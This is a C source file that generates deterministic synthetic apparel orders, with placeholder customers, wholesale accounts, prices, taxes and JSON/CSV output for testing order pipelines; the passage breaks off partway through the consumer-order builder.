/* gen.c: deterministic apparel orders (canonical NDJSON) and reference files. */
#include <errno.h>
#include <getopt.h>
#include <inttypes.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>

#include "date.h"

#define NSTYLES 60
#define NCOLORS 4
#define NSIZES 5
#define NSKUS (NSTYLES * NCOLORS * NSIZES)
#define NPALETTE 16
#define MAXLINES 12
#define NBAD 6

static const char usage_text[] =
    "usage: gen [-h] [-n orders] [-s seed] [-f ndjson|shopify] [--bad k] "
    "[--formulas]\n           [--refs dir]\n";

/* ---- randomness: splitmix64, so the same seed gives the same bytes anywhere ---- */

struct rng {
	uint64_t s;
};

static uint64_t
rng_next(struct rng *r)
{
	uint64_t z = (r->s += UINT64_C(0x9e3779b97f4a7c15));

	z = (z ^ (z >> 30)) * UINT64_C(0xbf58476d1ce4e5b9);
	z = (z ^ (z >> 27)) * UINT64_C(0x94d049bb133111eb);
	return z ^ (z >> 31);
}

/* A number in [0, n): the top 32 bits scaled, which needs no division. */
static int
rng_below(struct rng *r, int n)
{
	return (int)(((rng_next(r) >> 32) * (uint64_t)n) >> 32);
}

static int
rng_range(struct rng *r, int lo, int hi)
{
	return lo + rng_below(r, hi - lo + 1);
}

static bool
rng_pct(struct rng *r, int pct)
{
	return rng_below(r, 100) < pct;
}

/* An index drawn from weights that add up to 100. */
static int
rng_weighted(struct rng *r, const int *w, int n)
{
	int x = rng_below(r, 100), i;

	for (i = 0; i < n - 1 && x >= w[i]; i++)
		x -= w[i];
	return i;
}

#define PICK(r, a) ((a)[rng_below((r), (int)(sizeof(a) / sizeof((a)[0])))])

/* ---- the brand: styles, colors, sizes, locations ---- */

struct style {
	const char *code;
	int64_t price; /* retail, USD cents */
	int case_pack;
};

static const struct style styles[NSTYLES] = {
    {"TEE-CREW", 2800, 12},
    {"TEE-VNECK", 2800, 12},
    {"TEE-POCKET", 3200, 12},
    {"TEE-LONG", 3800, 12},
    {"TEE-HENLEY", 4200, 12},
    {"TEE-RINGER", 3000, 12},
    {"TEE-GRAPHIC", 3400, 12},
    {"TEE-BOXY", 3400, 12},
    {"TANK-RIB", 2400, 12},
    {"TANK-MUSCLE", 2600, 12},
    {"POLO-PIQUE", 5800, 6},
    {"POLO-JERSEY", 5400, 6},
    {"POLO-KNIT", 7800, 6},
    {"HOOD-PULL", 6800, 6},
    {"HOOD-ZIP", 7400, 6},
    {"HOOD-HEAVY", 8800, 6},
    {"CREW-FLEECE", 6200, 6},
    {"CREW-WAFFLE", 5600, 6},
    {"CREW-TERRY", 5800, 6},
    {"JOG-FLEECE", 6400, 6},
    {"JOG-TECH", 7800, 6},
    {"SHORT-CHINO", 5400, 6},
    {"SHORT-SWIM", 4800, 6},
    {"SHORT-RUN", 4400, 6},
    {"SHORT-CARGO", 5800, 6},
    {"SHORT-SWEAT", 5200, 6},
    {"PANT-CHINO", 8800, 6},
    {"PANT-CARGO", 9400, 6},
    {"PANT-TRAIL", 9800, 6},
    {"PANT-CORD", 9800, 6},
    {"JEAN-SLIM", 11800, 6},
    {"JEAN-STRAIGHT", 11800, 6},
    {"JEAN-RELAXED", 11800, 6},
    {"SHIRT-OXFORD", 8400, 6},
    {"SHIRT-FLANNEL", 8800, 6},
    {"SHIRT-LINEN", 9200, 6},
    {"SHIRT-CHAMBRAY", 8400, 6},
    {"SHIRT-CAMP", 7800, 6},
    {"JKT-DENIM", 14800, 4},
    {"JKT-COACH", 12800, 4},
    {"JKT-PUFFER", 24800, 4},
    {"JKT-RAIN", 19800, 4},
    {"JKT-CHORE", 16800, 4},
    {"JKT-BOMBER", 17800, 4},
    {"VEST-PUFFER", 14800, 4},
    {"VEST-FLEECE", 9800, 4},
    {"SWTR-MERINO", 12800, 6},
    {"SWTR-CABLE", 13800, 6},
    {"SWTR-CARDI", 14200, 6},
    {"DRESS-SLIP", 9800, 6},
    {"DRESS-SHIRT", 10800, 6},
    {"DRESS-WRAP", 11800, 6},
    {"SKIRT-MIDI", 8800, 6},
    {"SKIRT-MINI", 6800, 6},
    {"LEG-CORE", 7800, 12},
    {"LEG-POCKET", 8800, 12},
    {"BRA-SPORT", 4800, 12},
    {"OVERSHIRT-WOOL", 13800, 4},
    {"TEE-SLUB", 3200, 12},
    {"CREW-CASHMERE", 22800, 4},
};

/* New-season styles: sold as pre-order, covered by production not yet made. */
static bool
style_preorder(int s)
{
	return s == 12 || s == 25 || s == 33 || s == 47;
}

static const char *const palette[NPALETTE] = {
    "BLK",
    "WHT",
    "NVY",
    "HGR",
    "OLV",
    "SND",
    "RST",
    "SKY",
    "BRG",
    "FOR",
    "CRM",
    "CHR",
    "IND",
    "TAN",
    "PNK",
    "RED",
};

static const char *const sizes[NSIZES] = {"XS", "S", "M", "L", "XL"};
static const int size_weights[NSIZES] = {8, 20, 32, 26, 14};
static const int color_weights[NCOLORS] = {40, 25, 20, 15};

struct location {
	const char *id, *kind, *country, *region, *channels;
	int priority, max_orders, max_units, share;
	bool carries_all;
};

static const struct location locations[] = {
    {"DC-EAST", "warehouse", "US", "NJ", "", 1, 0, 0, 50, true},
    {"DC-WEST", "warehouse", "US", "NV", "dtc|marketplace|wholesale", 2, 0, 0, 30, true},
    {"3PL-TORONTO", "3pl", "CA", "ON", "dtc|marketplace", 3, 2000, 5000, 10, false},
    {"STORE-SOHO", "store", "US", "NY", "dtc", 5, 150, 300, 4, false},
    {"3PL-VENLO", "3pl", "NL", "LI", "dtc|marketplace|wholesale", 4, 1500, 4000, 6,
	false},
};

struct brand {
	int colors[NSTYLES][NCOLORS]; /* palette index; the first is always BLK */
	int nlocations;
};

static void
brand_make(struct brand *b, uint64_t seed)
{
	struct rng r = {seed ^ UINT64_C(0x6272616e64)};

	for (int s = 0; s < NSTYLES; s++) {
		b->colors[s][0] = 0;
		for (int c = 1; c < NCOLORS; c++) {
			int pick;
			bool dup;

			do {
				pick = 1 + rng_below(&r, NPALETTE - 1);
				dup = false;
				for (int k = 1; k < c; k++)
					dup |= b->colors[s][k] == pick;
			} while (dup);
			b->colors[s][c] = pick;
		}
	}
	b->nlocations = rng_range(&r, 3, 5);
}

static int
sku_index(int style, int color, int size)
{
	return (style * NCOLORS + color) * NSIZES + size;
}

static void
sku_text(const struct brand *b, int sku, char *out, size_t n)
{
	int style = sku / (NCOLORS * NSIZES), color = sku / NSIZES % NCOLORS;

	snprintf(out, n, "%s-%s-%s", styles[style].code, palette[b->colors[style][color]],
	    sizes[sku % NSIZES]);
}

/* A UPC-A: company prefix 840123, the SKU number, and the check digit. */
static void
upc_text(int sku, char out[13])
{
	int sum = 0;

	snprintf(out, 13, "840123%05d", sku);
	for (int i = 0; i < 11; i++)
		sum += (out[i] - '0') * (i % 2 == 0 ? 3 : 1);
	out[11] = (char)('0' + (10 - sum % 10) % 10);
	out[12] = '\0';
}

/* ---- people and places ---- */

struct name {
	const char *text, *ascii;
};

static const struct name firsts[] = {
    {"José", "jose"},
    {"Zoë", "zoe"},
    {"Jürgen", "juergen"},
    {"Chloé", "chloe"},
    {"Åsa", "asa"},
    {"Renée", "renee"},
    {"Łukasz", "lukasz"},
    {"François", "francois"},
    {"Søren", "soren"},
    {"Noémie", "noemie"},
    {"Mia", "mia"},
    {"Liam", "liam"},
    {"Olivia", "olivia"},
    {"Noah", "noah"},
    {"Emma", "emma"},
    {"Ava", "ava"},
    {"Sophia", "sophia"},
    {"Lucas", "lucas"},
    {"Mateo", "mateo"},
    {"Yuki", "yuki"},
    {"Haruto", "haruto"},
    {"Aiko", "aiko"},
    {"Priya", "priya"},
    {"Aarav", "aarav"},
    {"Fatima", "fatima"},
    {"Omar", "omar"},
    {"Grace", "grace"},
    {"Ethan", "ethan"},
    {"Maya", "maya"},
    {"Leo", "leo"},
    {"Anaïs", "anais"},
    {"Björn", "bjorn"},
};

static const struct name lasts[] = {
    {"García", "garcia"},
    {"Müller", "mueller"},
    {"Núñez", "nunez"},
    {"O'Brien", "obrien"},
    {"Smith", "smith"},
    {"Johnson", "johnson"},
    {"Nguyen", "nguyen"},
    {"Kim", "kim"},
    {"Tremblay", "tremblay"},
    {"Gagnon", "gagnon"},
    {"Côté", "cote"},
    {"Schröder", "schroeder"},
    {"Dubois", "dubois"},
    {"Lefèvre", "lefevre"},
    {"van der Berg", "vanderberg"},
    {"Sato", "sato"},
    {"Tanaka", "tanaka"},
    {"Patel", "patel"},
    {"Brown", "brown"},
    {"Davis", "davis"},
    {"Martínez", "martinez"},
    {"Rossi", "rossi"},
    {"Kowalski", "kowalski"},
    {"Jensen", "jensen"},
    {"Lopez", "lopez"},
    {"Wilson", "wilson"},
    {"Anderson", "anderson"},
    {"Taylor", "taylor"},
    {"Moore", "moore"},
    {"Clark", "clark"},
};

static const char *const domains[] = {
    "example.com",
    "example.net",
    "example.org",
    "mail.example",
    "post.example",
};

static const char *const companies[] = {
    "Acme, Inc.",
    "Studio \"Nord\" GmbH",
    "O'Neil & Sons",
    "Café Lumière",
    "Smith, Barney & Co.",
};

static const char *const line2s[] = {
    "Apt 4B",
    "Suite 200",
    "Unit 7",
    "c/o \"The Loft\"",
    "Floor 3, Room 12",
    "Bldg \"C\", Door 2",
    "Apt 12",
    "Étage 2",
};

/* A city and how its postal codes and phones look: '#' digit, '@' letter. */
struct city {
	const char *country, *city, *region, *postal, *phone;
	int tax_ppm;
};

static const struct city us_cities[] = {
    {"US", "New York", "NY", "100##", "+1 212 555 01##", 88750},
    {"US", "Brooklyn", "NY", "112##", "+1 718 555 01##", 88750},
    {"US", "Los Angeles", "CA", "900##", "+1 213 555 01##", 95000},
    {"US", "San Francisco", "CA", "941##", "+1 415 555 01##", 86250},
    {"US", "Chicago", "IL", "606##", "+1 312 555 01##", 102500},
    {"US", "Austin", "TX", "787##", "+1 512 555 01##", 82500},
    {"US", "Seattle", "WA", "981##", "+1 206 555 01##", 103500},
    {"US", "Portland", "OR", "972##", "+1 503 555 01##", 0},
    {"US", "Boston", "MA", "021##", "+1 617 555 01##", 62500},
    {"US", "Denver", "CO", "802##", "+1 303 555 01##", 88100},
    {"US", "Miami", "FL", "331##", "+1 305 555 01##", 70000},
    {"US", "Hoboken", "NJ", "07030", "+1 201 555 01##", 66250},
};

static const struct city ca_cities[] = {
    {"CA", "Québec", "QC", "G1R #@#", "+1 418 555 01##", 149750},
    {"CA", "Montréal", "QC", "H2Y #@#", "+1 514 555 01##", 149750},
    {"CA", "Toronto", "ON", "M5V #@#", "+1 416 555 01##", 130000},
    {"CA", "Vancouver", "BC", "V6B #@#", "+1 604 555 01##", 120000},
};

static const struct city eu_cities[] = {
    {"DE", "Berlin", "BE", "10###", "+49 30 #######", 190000},
    {"DE", "München", "BY", "80###", "+49 89 #######", 190000},
    {"DE", "Köln", "NW", "50###", "+49 221 #######", 190000},
    {"FR", "Paris", "IDF", "7501#", "+33 1 ## ## ## ##", 200000},
    {"FR", "Lyon", "ARA", "6900#", "+33 4 ## ## ## ##", 200000},
    {"NL", "Amsterdam", "NH", "10## @@", "+31 20 ### ####", 210000},
};

static const struct city jp_cities[] = {
    {"JP", "Shibuya-ku", "Tokyo", "150-00##", "+81 3 #### ####", 100000},
    {"JP", "大阪市北区", "Osaka", "530-00##", "+81 6 #### ####", 100000},
};

static const char *const us_streets[] = {
    "Main St",
    "Broadway",
    "Elm Street",
    "Market St",
    "5th Ave",
    "Sunset Blvd",
    "Maple Ave",
    "Oak Lane",
};
static const char *const ca_streets[] = {
    "Rue Saint-Paul",
    "Rue Sainte-Catherine",
    "Queen St W",
    "Granville St",
    "Boulevard René-Lévesque",
};
static const char *const de_streets[] = {
    "Hauptstraße",
    "Müllerstraße",
    "Schönhauser Allee",
    "Kölner Straße",
};
static const char *const fr_streets[] = {
    "rue de Rivoli",
    "boulevard Saint-Germain",
    "rue de la Paix",
    "avenue des Champs-Élysées",
};
static const char *const nl_streets[] = {"Prinsengracht", "Keizersgracht", "Damrak"};
static const char *const jp_streets[] = {"Jingumae", "Umeda", "Ginza"};

/* A wholesale account: who buys, on what terms, and where it ships. */
struct account {
	const char *source, *partner, *id, *company, *buyer, *email, *terms;
	bool ship_complete;
	int priority;
	const char *to_name, *line1, *line2, *city, *region, *postal, *country, *phone;
};

static const struct account accounts[] = {
    {"edi850", "NORDSTROM", "W10001", "Nordstrom", "Anaïs Dubois",
	"edi-po@nordstrom.example", "net60", true, 15, "Nordstrom DC 0599",
	"8501 Distribution Way", "Dock 14", "Elizabeth", "NJ", "07201", "US", NULL},
    {"edi850", "MACYS", "W10002", "Macy's", "Grace Kim", "po@macys.example", "net60",
	true, 10, "Macy's Logistics", "1000 Commerce Pkwy", NULL, "Tulsa", "OK", "74107",
	"US", "+1 918 555 0100"},
    {"edi850", "REI", "W10003", "REI Co-op", "Søren Jensen", "buying@rei.example",
	"net30", false, 5, "REI DC", "6750 S 228th St", NULL, "Kent", "WA", "98032", "US",
	NULL},
    {"edi850", "BLOOMINGDALES", "W10004", "Bloomingdale's", "Noémie Côté",
	"po@bloomingdales.example", "net60", true, 10, "Bloomingdale's Receiving",
	"919 3rd Ave", "Receiving, Door 3", "New York", "NY", "10022", "US",
	"+1 212 555 0188"},
    {"edi850", "HBC", "W10005", "Hudson's Bay", "François Tremblay", "achats@hbc.example",
	"net60", false, 5, "Centre de distribution HBC", "401 Rue Saint-Joseph Est",
	"Quai \"B\"", "Québec", "QC", "G1K 3B6", "CA", "+1 418 555 0123"},
    {"faire", NULL, "F20001", "Zoë's Closet", "Zoë Martin", "zoe@zoescloset.example",
	"net60", false, 0, "Zoë's Closet", "412 NW Couch St", NULL, "Portland", "OR",
	"97209", "US", NULL},
    {"faire", NULL, "F20002", "Boutique Müller", "Jürgen Müller",
	"jm@boutique-mueller.example", "net60", false, 0, "Boutique Müller",
	"Schönhauser Allee 36", NULL, "Berlin", "BE", "10435", "DE", "+49 30 5550123"},
    {"faire", NULL, "F20003", "Le Magasin \"Chic\"", "Chloé Gagnon",
	"bonjour@magasinchic.example", "net60", false, 0, "Le Magasin \"Chic\"",
	"12 Rue Saint-Paul, Apt 4", NULL, "Montréal", "QC", "H2Y 1H3", "CA", NULL},
    {"faire", NULL, "F20004", "Smith, Jones & Daughters", "Maya Smith",
	"orders@sjd.example", "net60", false, 0, "Smith, Jones & Daughters",
	"1807 S 1st St", "Suite 110", "Austin", "TX", "78704", "US", "+1 512 555 0142"},
    {"faire", NULL, "F20005", "Kōbō Select", "Aiko Tanaka", "aiko@kobo.example", "net30",
	false, 0, "Kōbō Select", "3-1-5 Jingumae", NULL, "Shibuya-ku", "Tokyo",
	"150-0001", "JP", "+81 3 5555 0101"},
};

#define NACCOUNTS (int)(sizeof accounts / sizeof accounts[0])
#define NEDI 5

/* ---- money and dates, all integers ---- */

struct currency {
	const char *code;
	int digits;
	int64_t free_over, ship[3]; /* standard, expedited, next_day */
};

static const struct currency currencies[] = {
    {"USD", 2, 10000, {795, 1500, 2500}},
    {"CAD", 2, 13500, {995, 1900, 3200}},
    {"EUR", 2, 9000, {595, 1295, 1995}},
    {"JPY", 0, 15000, {800, 1500, 2500}},
};

static const struct currency *
currency_of(const char *country)
{
	if (strcmp(country, "US") == 0)
		return &currencies[0];
	if (strcmp(country, "CA") == 0)
		return &currencies[1];
	if (strcmp(country, "JP") == 0)
		return &currencies[3];
	return &currencies[2];
}

/* A US price in another currency, rounded the way price lists are. */
static int64_t
price_in(int64_t usd, const struct currency *c, bool wholesale)
{
	if (wholesale)
		usd = usd / 2 / 25 * 25;
	switch (c->code[0]) {
	case 'C':
		return (usd * 135 / 100 + 99) / 100 * 100 - (wholesale ? 0 : 1);
	case 'E':
		return (usd * 92 / 100 + 99) / 100 * 100 - (wholesale ? 0 : 5);
	case 'J':
		return (usd * 150 / 100 + 99) / 100 * 100;
	default:
		return usd;
	}
}

/* Tax on amount at a rate in parts per million, rounded half up. */
static int64_t
tax_of(int64_t amount, int ppm)
{
	return (amount * ppm + 500000) / 1000000;
}

/* 0 is Sunday: 1970-01-01 was a Thursday. */
static int
weekday(int32_t days)
{
	return (int)((days % 7 + 11) % 7);
}

static int32_t
add_business_days(int32_t day, int n)
{
	while (weekday(day) == 0 || weekday(day) == 6)
		day++;
	while (n > 0) {
		day++;
		if (weekday(day) != 0 && weekday(day) != 6)
			n--;
	}
	return day;
}

/* ---- output buffer ---- */

struct out {
	char *p;
	size_t len, cap;
};

static void
out_room(struct out *o, size_t n)
{
	if (o->len + n <= o->cap)
		return;
	while (o->len + n > o->cap)
		o->cap = o->cap ? o->cap * 2 : 8192;
	o->p = realloc(o->p, o->cap);
	if (!o->p) {
		fputs("gen: out of memory\n", stderr);
		exit(2);
	}
}

static void
out_add(struct out *o, const char *s, size_t n)
{
	out_room(o, n);
	memcpy(o->p + o->len, s, n);
	o->len += n;
}

static void
out_s(struct out *o, const char *s)
{
	out_add(o, s, strlen(s));
}

static void
out_c(struct out *o, char c)
{
	out_room(o, 1);
	o->p[o->len++] = c;
}

static void
out_int(struct out *o, int64_t v)
{
	char tmp[24];
	int n = 0;
	uint64_t m = v < 0 ? (uint64_t)0 - (uint64_t)v : (uint64_t)v;

	do {
		tmp[n++] = (char)('0' + m % 10);
		m /= 10;
	} while (m);
	if (v < 0)
		out_c(o, '-');
	while (n)
		out_c(o, tmp[--n]);
}

/* Minor units as a decimal string with the currency's digits: 2450 -> 24.50. */
static void
out_money(struct out *o, int64_t v, int digits)
{
	char tmp[24];
	int n = 0;

	do {
		tmp[n++] = (char)('0' + v % 10);
		v /= 10;
	} while (v || n <= digits);
	while (n) {
		if (n == digits)
			out_c(o, '.');
		out_c(o, tmp[--n]);
	}
}

static void
out_2d(struct out *o, int v)
{
	out_c(o, (char)('0' + v / 10));
	out_c(o, (char)('0' + v % 10));
}

static void
out_date(struct out *o, int32_t days)
{
	int y, m, d;

	date_to_civil(days, &y, &m, &d);
	out_int(o, y);
	out_c(o, '-');
	out_2d(o, m);
	out_c(o, '-');
	out_2d(o, d);
}

static void
out_ts(struct out *o, int64_t secs)
{
	int rem = (int)(secs % 86400);

	out_date(o, (int32_t)(secs / 86400));
	out_c(o, 'T');
	out_2d(o, rem / 3600);
	out_c(o, ':');
	out_2d(o, rem / 60 % 60);
	out_c(o, ':');
	out_2d(o, rem % 60);
	out_c(o, 'Z');
}

/* A JSON string escaped the way jansson writes it (UTF-8 kept as is). */
static void
out_jstr(struct out *o, const char *s)
{
	static const char hex[] = "0123456789ABCDEF";

	out_c(o, '"');
	for (; *s; s++) {
		unsigned char c = (unsigned char)*s;

		if (c == '"' || c == '\\') {
			out_c(o, '\\');
			out_c(o, (char)c);
		} else if (c < 0x20) {
			out_s(o, "\\u00");
			out_c(o, hex[c >> 4]);
			out_c(o, hex[c & 15]);
		} else {
			out_c(o, (char)c);
		}
	}
	out_c(o, '"');
}

/* A CSV cell, quoted only when it must be. */
static void
out_cell(struct out *o, const char *s)
{
	if (!strpbrk(s, ",\"\r\n")) {
		out_s(o, s);
		return;
	}
	out_c(o, '"');
	for (; *s; s++) {
		if (*s == '"')
			out_c(o, '"');
		out_c(o, *s);
	}
	out_c(o, '"');
}

/* Members of one JSON object, comma-separated as they come. */
struct obj {
	struct out *o;
	bool first;
};

static void
key(struct obj *j, const char *k)
{
	if (!j->first)
		out_c(j->o, ',');
	j->first = false;
	out_c(j->o, '"');
	out_s(j->o, k);
	out_s(j->o, "\":");
}

static void
kv_str(struct obj *j, const char *k, const char *v)
{
	if (!v || !*v)
		return;
	key(j, k);
	out_jstr(j->o, v);
}

static void
kv_int(struct obj *j, const char *k, int64_t v)
{
	key(j, k);
	out_int(j->o, v);
}

static void
kv_bool(struct obj *j, const char *k, bool v)
{
	key(j, k);
	out_s(j->o, v ? "true" : "false");
}

static void
kv_money(struct obj *j, const char *k, int64_t v, int digits)
{
	key(j, k);
	out_c(j->o, '"');
	out_money(j->o, v, digits);
	out_c(j->o, '"');
}

static void
kv_date(struct obj *j, const char *k, int32_t days)
{
	key(j, k);
	out_c(j->o, '"');
	out_date(j->o, days);
	out_c(j->o, '"');
}

static struct obj
kv_open(struct obj *j, const char *k)
{
	struct obj sub = {j->o, true};

	key(j, k);
	out_c(j->o, '{');
	return sub;
}

/* ---- one order ---- */

enum bad {
	BAD_NONE = -1,
	BAD_JSON,
	BAD_QTY,
	BAD_NO_ID,
	BAD_MONEY,
	BAD_DATE,
	BAD_CHANNEL,
};

struct line {
	int sku, qty, case_pack;
	int64_t unit, discount, tax;
	bool preorder;
};

struct order {
	char order_id[64], channel_order_id[40];
	const char *channel, *source, *status, *service, *currency;
	int digits;
	char cust_id[96], email[96], cust_name[64];
	const char *cust_company;
	int64_t placed;
	int32_t ship_by, start_ship, cancel_after;
	bool window;
	int priority, ship_complete; /* ship_complete -1: absent */
	char to_name[64], line1[96], postal[16], phone[24];
	const char *to_company, *line2, *city, *region, *country, *to_phone;
	const char *pay_status, *pay_terms;
	int tax_ppm; /* the ship-to's sales tax or VAT, for the Shopify layout */
	int64_t subtotal, discount, shipping, tax, total;
	int nlines;
	struct line lines[MAXLINES];
};

struct gen {
	uint64_t seed;
	struct rng r;
	struct brand brand;
	int64_t start, span, n;
	long dtc, amazon, edi, faire;
	int64_t demand[NSKUS];
};

/* Fill a pattern: '#' a digit, '@' an upper-case letter, the rest as is. */
static void
fill(struct rng *r, const char *pat, char *out, size_t n)
{
	size_t i = 0;

	for (; *pat && i + 1 < n; pat++, i++) {
		if (*pat == '#')
			out[i] = (char)('0' + rng_below(r, 10));
		else if (*pat == '@')
			out[i] = (char)('A' + rng_below(r, 26));
		else
			out[i] = *pat;
	}
	out[i] = '\0';
}

static void
lower(char *s)
{
	for (; *s; s++)
		if (*s >= 'A' && *s <= 'Z')
			*s = (char)(*s - 'A' + 'a');
}

static void
person(struct rng *r, char *name, size_t n, const struct name **first,
    const struct name **last)
{
	*first = &PICK(r, firsts);
	*last = &PICK(r, lasts);
	snprintf(name, n, "%s %s", (*first)->text, (*last)->text);
}

static const struct city *
consumer_city(struct rng *r, bool amazon)
{
	static const int dtc_w[] = {80, 9, 8, 3}, amz_w[] = {82, 8, 6, 4};

	switch (rng_weighted(r, amazon ? amz_w : dtc_w, 4)) {
	case 0:
		return &PICK(r, us_cities);
	case 1:
		return &PICK(r, ca_cities);
	case 2:
		return amazon ? &eu_cities[rng_below(r, 3)] : &PICK(r, eu_cities);
	default:
		return &PICK(r, jp_cities);
	}
}

static void
street_line(struct rng *r, const struct city *c, char *out, size_t n)
{
	int num = rng_range(r, 1, 2999);

	switch (c->country[0]) {
	case 'D':
		snprintf(out, n, "%s %d", PICK(r, de_streets), num % 200 + 1);
		break;
	case 'N':
		snprintf(out, n, "%s %d", PICK(r, nl_streets), num % 500 + 1);
		break;
	case 'F':
		snprintf(out, n, "%d %s", num % 150 + 1, PICK(r, fr_streets));
		break;
	case 'J':
		snprintf(out, n, "%d-%d-%d %s", num % 6 + 1, num % 20 + 1, num % 30 + 1,
		    PICK(r, jp_streets));
		break;
	case 'C':
		if (rng_pct(r, 30)) {
			snprintf(out, n, "%d %s, Apt %d", num, PICK(r, ca_streets),
			    rng_range(r, 1, 40));
			break;
		}
		snprintf(out, n, "%d %s", num, PICK(r, ca_streets));
		break;
	default:
		snprintf(out, n, "%d %s", num, PICK(r, us_streets));
		break;
	}
}

/* A consumer: who ordered, where it goes, in which currency. */
static const struct city *
consumer(struct gen *g, struct order *o, bool amazon)
{
	struct rng *r = &g->r;
	const struct name *first, *last;
	const struct city *c = consumer_city(r, amazon);
	const struct currency *cur = currency_of(c->country);

	person(r, o->cust_name, sizeof o->cust_name, &first, &last);
	if (amazon) {
		static const char alnum[] = "abcdefghijklmnopqrstuvwxyz0123456789";
		char local[16];

		for (int i = 0; i < 15; i++)
			local[i] = alnum[rng_below(r, 36)];
		local[15] = '\0';
		snprintf(o->email, sizeof o->email, "%s@marketplace.amazon.com", local);
	} else if (rng_pct(r, 20)) {
		/* Some shops keep e-mail as typed; the id is what matches. */
		snprintf(o->email, sizeof o->email, "%c%s.%c%s@%c%s",
		    first->ascii[0] - 'a' + 'A', first->ascii + 1,
		    last->ascii[0] - 'a' + 'A', last->ascii + 1, 'E', "xample.com");
	} else if (rng_pct(r, 50)) {
		snprintf(o->email, sizeof o->email, "%s.%s%d@%s", first->ascii,
		    last->ascii, rng_range(r, 1, 99), PICK(r, domains));
	} else {
		snprintf(o->email, sizeof o->email, "%s.%s@%s", first->ascii, last->ascii,
		    PICK(r, domains));
	}
	snprintf(o->cust_id, sizeof o->cust_id, "%s", o->email);
	lower(o->cust_id);
	o->cust_company = !amazon && rng_pct(r, 4) ? PICK(r, companies) : NULL;
	if (rng_pct(r, 10))
		person(r, o->to_name, sizeof o->to_name, &first, &last);
	else
		snprintf(o->to_name, sizeof o->to_name, "%s", o->cust_name);
	o->to_company = o->cust_company;
	street_line(r, c, o->line1, sizeof o->line1);
	o->line2 = rng_pct(r, 25) ? PICK(r, line2s) : NULL;
	o->city = c->city;
	o->region = c->region;
	fill(r, c->postal, o->postal, sizeof o->postal);
	o->country = c->country;
	o->to_phone = NULL;
	if (rng_pct(r, 60)) {
		fill(r, c->phone, o->phone, sizeof o->phone);
		o->to_phone = o->phone;
	}
	o->currency = cur->code;
	o->digits = cur->digits;
	return c;
}

static int
pick_style(struct rng *r)
{
	int a = rng_below(r, NSTYLES), b = rng_below(r, NSTYLES);

	return a < b ? a : b;
}

/* Up to four consumer lines: mostly one unit each, popular styles first. */
static void
consumer_lines(struct gen *g, struct order *o, int tax_ppm, int promo_pct)
{
	static const int nlines_w[] = {55, 25, 12, 8};
	struct rng *r = &g->r;
	const struct currency *cur = currency_of(o->country);
	int want = rng_weighted(r, nlines_w, 4) + 1;

	o->nlines = 0;
	for (int tries = 0; o->nlines < want && tries < 20; tries++) {
		int s = pick_style(r);
		int sku = sku_index(s, rng_weighted(r, color_weights, NCOLORS),
		    rng_weighted(r, size_weights, NSIZES));
		struct line *l = &o->lines[o->nlines];
		bool dup = false;

		for (int k = 0; k < o->nlines; k++)
			dup |= o->lines[k].sku == sku;
		if (dup)
			continue;
		l->sku = sku;
		l->qty = rng_pct(r, 85) ? 1 : rng_range(r, 2, 3);
		l->case_pack = 0;
		l->unit = price_in(styles[s].price, cur, false);
		l->discount = l->qty * l->unit * promo_pct / 100;
		l->tax = tax_of(l->qty * l->unit - l->discount, tax_ppm);
		l->preorder = style_preorder(s);
		o->nlines++;
	}
}

/* Four to twelve lines of size runs, in whole cases. */
static void
wholesale_lines(struct gen *g, struct order *o, int discount_pct)
{
	static const int lo[NSIZES] = {0, 1, 2, 2, 1}, hi[NSIZES] = {1, 2, 4, 4, 2};
	struct rng *r = &g->r;
	const struct currency *cur = currency_of(o->country);
	int want = rng_range(r, 4, 12), used[MAXLINES], nused = 0;

	o->nlines = 0;
	for (int tries = 0; o->nlines < want && tries < 20; tries++) {
		int s = pick_style(r), c = rng_weighted(r, color_weights, NCOLORS);
		int sc = s * NCOLORS + c, first = rng_pct(r, 40) ? 0 : 1;
		bool dup = false;

		for (int k = 0; k < nused; k++)
			dup |= used[k] == sc;
		if (dup)
			continue;
		used[nused++] = sc;
		for (int z = first; z < NSIZES && o->nlines < want; z++) {
			struct line *l = &o->lines[o->nlines++];

			l->sku = sku_index(s, c, z);
			l->case_pack = styles[s].case_pack;
			l->qty = l->case_pack * rng_range(r, lo[z] ? lo[z] : 1, hi[z]);
			l->unit = price_in(styles[s].price, cur, true);
			l->discount = l->qty * l->unit * discount_pct / 100;
			l->tax = 0;
			l->preorder = style_preorder(s);
		}
	}
}

static void
add_totals(struct order *o)
{
	o->subtotal = o->discount = o->tax = 0;
	for (int i = 0; i < o->nlines; i++) {
		o->subtotal += o->lines[i].qty * o->lines[i].unit;
		o->discount += o->lines[i].discount;
		o->tax += o->lines[i].tax;
	}
	o->total = o->subtotal - o->discount + o->shipping + o->tax;
}

static int
service_index(struct rng *r, bool amazon)
{
	static const int dtc_w[] = {75, 18, 7}, amz_w[] = {70, 25, 5};

	return rng_weighted(r, amazon ? amz_w : dtc_w, 3);
}

static void
make_consumer(struct gen *g, struct order *o, bool amazon)
{
	static const char *const services[] = {"standard", "expedited", "next_day"};
	struct rng *r = &g->r;
	int svc, promo = 0;
	int32_t day = (int32_t)(o->placed / 86400);
	const struct city *c = consumer(g, o, amazon);
	const struct currency *cur = currency_of(o->country);
	if (amazon) {
		long n = g->amazon++;

		o->channel = "marketplace";
		o->source = "amazon";
		/* 7919 is prime to 10, so the first group never repeats. */
		snprintf(o->channel_order_id, sizeof o->channel_order_id,
		    "113-%07ld-%07d", (n * 7919 + 1234567) % 10000000,
		    rng_below(r, 10000000));
		snprintf(
		    o->order_id, sizeof o->order_id, "amazon:%s", o->channel_order_id);
	} else {
		long n = 1001 + g->dtc++;

		o->channel = "dtc";
		o->source = "shopify";
		snprintf(o->order_id, sizeof o->order_id, "shopify:%ld", n);
		snprintf(o->channel_order_id, sizeof o->channel_order_id, "#%ld", n);
		promo = rng_pct(r, 20) ? 5 * rng_range(r, 2, 4) : 0;
	}
	svc = service_index(r, amazon);
	o->service = services[svc];
	o->priority = svc == 0 ? 0 : svc * 10;
	if (amazon)
		o->priority += 5;
	o->ship_complete = !amazon && rng_pct(r, 4) ? 1 : -1;
	if (svc == 2)
		o->ship_by =
		    add_business_days(day, o->placed % 86400 < 14 * 3600 ? 0 : 1);
	else
		o->ship_by = add_business_days(day, svc == 1 ? 1 : 2);
	o->window = false;
	o->pay_status = rng_pct(r, 2) ? "pending" : "paid";
	o->pay_terms = "prepaid";
	o->tax_ppm = c->tax_ppm;
	consumer_lines(g, o, c->tax_ppm, promo);
	o->shipping = 0;
	add_totals(o);
	o->shipping = cur->ship[svc];
